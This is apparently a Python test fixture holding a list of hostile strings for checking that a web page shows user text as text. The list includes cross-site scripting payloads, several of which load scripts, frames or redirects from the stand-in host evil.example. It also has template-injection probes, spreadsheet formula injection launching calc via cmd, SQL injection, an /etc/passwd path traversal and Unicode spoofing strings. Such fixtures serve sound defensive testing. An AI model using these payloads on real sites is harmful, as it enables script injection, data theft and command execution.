"""Texts that a page must show as text: each would make itself felt where one is taken for markup, code or a formula.

What takes effect sets ``window.__xss``, opens a dialog, makes an element of class ``probe`` or asks ``evil.example``.
"""

EVIL = "https://evil.example"
WORKED_OUT = "62615533"
"""What ``7919*7907`` would become in a template."""
VECTORS = (
    "<script class=probe>window.__xss=1</script>",
    f"<script class=probe src={EVIL}/a.js></script>",
    "</script><script class=probe>alert(1)</script>",
    "</title></textarea></style><img class=probe src=x onerror=alert(2)>",
    '"><img class=probe src=x onerror=window.__xss=3>',
    "' onmouseover='window.__xss=4' class='probe",
    '" autofocus onfocus="window.__xss=5" class="probe',
    "<svg class=probe onload=window.__xss=6>",
    "<svg class=probe><script>window.__xss=7</script></svg>",
    "<svg class=probe><a xlink:href='javascript:alert(8)'><text>go</text></a></svg>",
    "<math class=probe><mtext></mtext><img src=x onerror=alert(9)></math>",
    "<iframe class=probe srcdoc='<script>parent.__xss=10</script>'></iframe>",
    f"<iframe class=probe src='{EVIL}/frame'></iframe>",
    "<body class=probe onload=alert(11)>",
    "<details class=probe open ontoggle=alert(12)>",
    "<input class=probe autofocus onfocus=alert(13)>",
    "<video class=probe><source onerror=alert(14)></video>",
    f"<link class=probe rel=stylesheet href={EVIL}/a.css>",
    f"<style class=probe>@import '{EVIL}/a.css';</style>",
    f"<meta class=probe http-equiv=refresh content='0;url={EVIL}'>",
    f"<base class=probe href={EVIL}/>",
    f"<form class=probe action={EVIL}><button>go</button></form>",
    f"<object class=probe data={EVIL}/o></object>",
    "javascript:alert(15)",
    "JaVaScRiPt:alert(15)//",
    "data:text/html,<script class=probe>alert(16)</script>",
    f"//evil.example/x?{'y' * 20}",
    f'<a class=probe href="{EVIL}">link</a>',
    f'<b>bold</b><br><i>it</i><sub>s</sub><a href="{EVIL}/plotly" target="_self">chart</a>',
    f"[click]({EVIL}/md) ![img]({EVIL}/md.png) <{EVIL}/auto>",
    "`code` **strong** # head\n- [x](javascript:alert(17))",
    "{{7919*7907}} ${7919*7907} #{7919*7907} <%= 7919*7907 %> {%raw%}",
    "{{constructor.constructor('window.__xss=18')()}}",
    "%{7919*7907} %s %n %(name)s {0.__class__}",
    '=HYPERLINK("https://evil.example","go")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "\u202e<gpj.exe\u202c\u2066\u2069\u200b\ufeff",
    "＜script＞alert(19)＜/script＞ \uff1cimg src=x\uff1e",
    "&lt;img src=x onerror=alert(20)&gt; &#60;script&#62; &amp;",
    "<img\u00a0class=probe/src='x'/onerror=alert(21)>",
    "<\u0131mg src=x> \u2028window.__xss=22\u2029",
    "\x01\x02\x1b[31m\x7f\u0085",
    "'; DROP TABLE event; -- \" OR 1=1 \\",
    "../../../../etc/passwd",
    "\\u003cscript\\u003ealert(23)\\u003c/script\\u003e",
    "*/alert(24)/* -->]]><!--",
    "Z" + "̷̢̛͙" * 60,
    "<marquee class=probe>" * 40,
)
"""One hostile text each, none longer than an event's ``Line``."""
LONG = "\n".join(VECTORS)[:4000]
FORMULAS = ("=", "+", "-", "@", "\t", "\r")


def turned(number: int) -> str:
    """A vector by number, round and round."""
    return VECTORS[number % len(VECTORS)]


def word(number: int, longest: int = 256) -> str:
    """A vector as long as a short field takes."""
    return turned(number)[:longest]
